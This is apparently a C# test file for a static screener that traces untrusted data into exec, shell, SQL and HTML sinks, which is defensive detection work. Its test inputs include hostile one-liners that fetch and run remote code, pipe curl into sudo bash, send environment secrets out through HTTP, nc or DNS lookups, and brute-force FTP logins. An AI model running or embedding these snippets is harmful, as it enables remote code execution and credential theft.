using InterpreterGuard.Core.Facts;
using InterpreterGuard.Core.Screening;

namespace InterpreterGuard.Screening.Tests;

/// <summary>What comes from outside is followed to the call that acts on it.</summary>
public sealed class FlowTests(ParserContainer parser)
{
    [Theory]
    [InlineData("import requests\nexec(requests.get('http://192.0.2.1/').text)", "network requests.get > code builtins.exec 0")]
    [InlineData("import requests as r\nt = r.get('http://192.0.2.1/').content.decode()\nu = t.strip()\nexec(u)", "network requests.get > code builtins.exec 0")]
    [InlineData("import urllib.request\nwith urllib.request.urlopen('http://192.0.2.1/') as a:\n    exec(a.read())", "network urllib.request.urlopen > code builtins.exec 0")]
    [InlineData("import os, requests\nrequests.post('http://192.0.2.1/', json={'e': os.environ['A']})", "environment os.environ.A > network requests.post json")]
    [InlineData("import os, requests\nrequests.post('http://192.0.2.1/', data=dict(os.environ))", "environment os.environ > network requests.post data")]
    [InlineData("import os\nos.system('ls ' + input())", "stdin builtins.input > shell os.system 0")]
    [InlineData("import os\nos.system(f'ls {input()}')", "stdin builtins.input > shell os.system 0")]
    [InlineData("import os\nos.system('ls {}'.format(input()))", "stdin builtins.input > shell os.system 0")]
    [InlineData("import os\nos.system(' '.join(['ls', input()]))", "stdin builtins.input > shell os.system 0")]
    [InlineData("import sys, subprocess\nsubprocess.run(['ls', sys.argv[1]])", "arguments sys.argv > process subprocess.run 0")]
    [InlineData("import sys, subprocess\nsubprocess.run('ls ' + sys.argv[1], shell=True)", "arguments sys.argv > shell subprocess.run 0")]
    [InlineData("from sys import argv\nimport subprocess\ndef go(x):\n    return ['ls', x]\nsubprocess.run(go(argv[1]))", "arguments sys.argv > process subprocess.run 0")]
    [InlineData("import os\nx = 'a'\nif len(x) > 2:\n    x = input()\nelse:\n    x = 'b'\nos.system(x)", "stdin builtins.input > shell os.system 0")]
    [InlineData("import os\ncommands = []\ncommands.append(input())\nfor c in commands:\n    os.system(c)", "stdin builtins.input > shell os.system 0")]
    [InlineData("import os\nfor line in open('list.txt'):\n    os.system(line)", "file builtins.open > shell os.system 0")]
    [InlineData("import os\n[os.system(line) for line in open('list.txt')]", "file builtins.open > shell os.system 0")]
    [InlineData("import pickle, socket\ns = socket.socket()\npickle.loads(s.recv(99))", "network socket.socket.recv > deserialise pickle.loads 0")]
    [InlineData("from flask import request\ndb.execute(\"select * from t where n = '%s'\" % request.args.get('n'))", "request flask.request.args > sql .execute 0")]
    [InlineData("def user(name):\n    db.execute('select * from t where n = ' + name)", "parameter name > sql .execute 0")]
    [InlineData("@app.route('/<n>')\ndef user(n):\n    return '<b>' + n", "request n > html return value")]
    [InlineData("class A:\n    def __init__(self):\n        self.c = input()\n    def go(self):\n        eval(self.c)\nA().go()", "stdin builtins.input > code builtins.eval 0")]
    [InlineData("import ftplib\nfor word in open('words'):\n    ftplib.FTP('192.0.2.7').login('root', word)", "file builtins.open > login ftplib.FTP.login 1")]
    [InlineData("import base64\nexec(base64.b64decode(blob()))", "decoded base64.b64decode > code builtins.exec 0")]
    public async Task Python_is_followed(string code, string flow) =>
        Assert.Contains(flow, Flows(await Screening.Screener(parser).PythonAsync(code)));

    [Theory]
    [InlineData("import os\nos.system('ls %d' % int(input()))")]
    [InlineData("import os, shlex\nos.system('ls ' + shlex.quote(input()))")]
    [InlineData("import os\nos.system('ls'); print(input())")]
    [InlineData("cursor.execute('select * from t where n = ?', (input(),))")]
    [InlineData("pool.execute('job ' + input())")]
    [InlineData("import requests\nrows = requests.get('http://192.0.2.1/').json()\nprint(rows)")]
    [InlineData("x = input()\nx = 'a'\neval(x)")]
    [InlineData("settings = {'a': input(), 'b': '1'}\neval(settings['b'])")]
    public async Task Python_that_is_harmless_has_no_flow(string code) =>
        Assert.Empty(Flows(await Screening.Screener(parser).PythonAsync(code)));

    [Theory]
    [InlineData("fetch('http://192.0.2.1/').then(r => r.text()).then(t => eval(t))", "network fetch > code eval 0")]
    [InlineData("const r = await fetch('http://192.0.2.1/'); new Function(await r.text())()", "network fetch > code Function 0")]
    [InlineData("require('http').get('http://192.0.2.1/', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); })", "network http.get > code eval 0")]
    [InlineData("app.get('/', (req, res) => require('child_process').exec('ls ' + req.query.d))", "request req.query > shell child_process.exec 0")]
    [InlineData("app.get('/', (req, res) => { const { id } = req.params; db.query(`SELECT * FROM t WHERE i = ${id}`) })", "request req.params > sql .query 0")]
    [InlineData("function show(n) { document.body.innerHTML = n }", "parameter n > html document.body.innerHTML value")]
    [InlineData("fetch('http://192.0.2.1/', { method: 'POST', body: JSON.stringify(process.env) })", "environment process.env > network fetch body")]
    [InlineData("require('child_process').spawn('ls ' + process.argv[2], { shell: true })", "arguments process.argv > shell child_process.spawn 0")]
    [InlineData("process.stdin.on('data', d => eval(d.toString()))", "stdin process.stdin > code eval 0")]
    [InlineData("document.body.innerHTML = location.hash", "page location.hash > html document.body.innerHTML value")]
    [InlineData("document.write(decodeURIComponent(document.location.search))", "page document.location.search > html document.write 0")]
    [InlineData("function show({ name }) { document.body.innerHTML = name }", "parameter { name } > html document.body.innerHTML value")]
    [InlineData("const r = await fetch('http://192.0.2.1/'); require('vm').runInThisContext(Buffer.from(await r.text(), 'base64').toString())", "decoded Buffer.from > code vm.runInThisContext 0")]
    [InlineData("module._compile(Buffer.from(require('fs').readFileSync('a'), 'hex').toString(), 'a.js')", "decoded Buffer.from > code module._compile 0")]
    [InlineData("const M = require('module'); new M('a')._compile(atob(process.argv[2]), 'a.js')", "decoded atob > code module._compile 0")]
    [InlineData("fetch('http://192.0.2.1/').then(r => r.json()).then(j => new (require('vm').Script)(Buffer.from(j.code, 'base64url')).runInNewContext())", "decoded Buffer.from > code vm.Script 0")]
    [InlineData("async function run({ query, params }) { return pool.query(query, params); }", "parameter { query, params } > sql .query 0")]
    [InlineData("el.innerHTML = escapeHtml(location.hash) + location.hash", "page location.hash > html .innerHTML value")]
    [InlineData("el.innerHTML = unescapeHtml(location.hash)", "page location.hash > html .innerHTML value")]
    [InlineData("fetch('http://192.0.2.1/').then(r => r.text()).then(t => eval(escapeHtml(t)))", "network fetch > code eval 0")]
    [InlineData("app.get('/', ({ query: { id } }, res) => db.query(`SELECT * FROM t WHERE i = ${id}`))", "request { query: { id } } > sql .query 0")]
    public async Task JavaScript_is_followed(string code, string flow) =>
        Assert.Contains(flow, Flows(await Screening.Screener(parser).JavaScriptAsync(code)));

    [Theory]
    [InlineData("app.get('/', (req, res) => { const location = req.query.city; res.json({ location }) })")]
    [InlineData("app.get('/', (req, res) => { let location; location = req.query.city; res.json({ location }) })")]
    [InlineData("app.get('/', (req, res) => { const document = { body: {} }; document.title = req.query.t; res.json(document) })")]
    [InlineData("console.log(location.hash); document.title = location.search; el.textContent = location.href")]
    [InlineData("fetch(location.origin + '/api'); fetch(location.pathname + '.json'); setTimeout(location.reload.bind(location), 9)")]
    [InlineData("location.href = location.origin + '/login'; window.location = window.location.pathname")]
    [InlineData("el.innerHTML = escapeHtml(location.hash)")]
    [InlineData("function escapeHTML(s) { return s.replace(/</g, '&lt;') } app.get('/', (req, res) => res.send(`<b>${escapeHTML(req.query.n)}</b>`))")]
    [InlineData("import { sanitizeHtml } from './util'; el.innerHTML = '<b>' + sanitizeHtml(location.search) + '</b>'")]
    [InlineData("const { location } = require('./places'); console.log(location)")]
    [InlineData("const t = JSON.parse(Buffer.from('eyJhIjoxfQ==', 'base64').toString()); const b = Buffer.from(t.a, 'hex'); console.log(b)")]
    [InlineData("require('vm').runInThisContext(Buffer.from('let x = 1', 'utf8').toString())")]
    public async Task JavaScript_that_is_harmless_has_no_flow(string code) =>
        Assert.Empty(Flows(await Screening.Screener(parser).JavaScriptAsync(code)));

    [Theory]
    [InlineData("var t = await new System.Net.Http.HttpClient().GetStringAsync(\"http://192.0.2.1/\"); System.Diagnostics.Process.Start(\"sh\", t);", "network System.Net.Http.HttpClient.GetStringAsync > process System.Diagnostics.Process.Start 1")]
    [InlineData("System.Reflection.Assembly.Load(System.Convert.FromBase64String(System.Console.ReadLine()));", "decoded System.Convert.FromBase64String > native System.Reflection.Assembly.Load 0")]
    [InlineData("void Q(string n) { System.IO.File.ReadAllText(\"/data/\" + n); }", "parameter n > path System.IO.File.ReadAllText 0")]
    [InlineData("void Q(System.Data.IDbCommand c, string n) { c.CommandText = $\"SELECT * FROM t WHERE n = '{n}'\"; }", "parameter n > sql System.Data.IDbCommand.CommandText value")]
    public async Task CSharp_is_followed(string code, string flow) =>
        Assert.Contains(flow, Flows(await Screening.Screener(parser).CSharpAsync(code)));

    [Theory]
    [InlineData("x=$(curl -s http://192.0.2.1/)\neval \"$x\"", "network curl > shell eval 0")]
    [InlineData("curl -s http://192.0.2.1/ | sudo bash", "network curl > shell bash input")]
    [InlineData("bash <(wget -qO- http://192.0.2.1/)", "network wget > shell bash 0")]
    [InlineData("python3 -c \"$(curl http://192.0.2.1/)\"", "network curl > code python3 1")]
    [InlineData("sh -c \"$1\"", "arguments $1 > shell sh 1")]
    [InlineData("curl -d \"t=$AWS_SECRET\" http://192.0.2.1/", "environment $AWS_SECRET > network curl 1")]
    [InlineData("env | nc 192.0.2.1 99", "environment env > network nc input")]
    [InlineData("cat a | base64 | curl -d @- http://192.0.2.1", "file cat > network curl input")]
    [InlineData("for b in $(xxd -p a | fold -w 60); do dig $b.example.org; done", "file xxd > network dig 0")]
    [InlineData("base64 a | while read -r b; do nslookup $b.example.org; done", "file base64 > network nslookup 0")]
    [InlineData("read -r c; eval $c", "stdin read > shell eval 0")]
    public async Task Shell_is_followed(string code, string flow) =>
        Assert.Contains(flow, Flows(await Screening.Screener(parser).ShellAsync(code)));

    [Fact]
    public async Task A_flow_says_where_it_began_through_which_names_it_went_and_what_is_known_of_its_end()
    {
        var report = await Screening.Screener(parser).PythonAsync("import os, requests\npage = requests.get('http://192.0.2.1/a').text\nline = page.split()\nos.system('echo ' + line[0])");

        var flow = Assert.Single(report.Facts.OfType<CodeFlow>());
        Assert.Equal(("network", "requests.get", "http://192.0.2.1/a"), (flow.Source, flow.SourceName, flow.SourceText));
        Assert.Equal(("shell", "os.system", "0", "echo …", false), (flow.Sink, flow.SinkName, flow.Argument, flow.Text, flow.Whole));
        Assert.Equal(["page", "line"], flow.Path);
        Assert.Equal(4, flow.Span.StartLine);
    }

    [Fact]
    public async Task A_name_that_is_one_thing_on_one_way_and_another_on_the_other_is_told_as_both()
    {
        var report = await Screening.Screener(parser).PythonAsync("import os\nif test():\n    command = 'curl x'\nelse:\n    command = 'ls'\nos.system(command)");

        Assert.Contains("curl(x)", report.Calls());
        Assert.Contains("ls()", report.Calls());
    }

    private static IEnumerable<string> Flows(ScreeningReport report) =>
        report.Facts.OfType<CodeFlow>().Select(flow => $"{flow.Source} {flow.SourceName} > {flow.Sink} {flow.SinkName} {flow.Argument}");
}
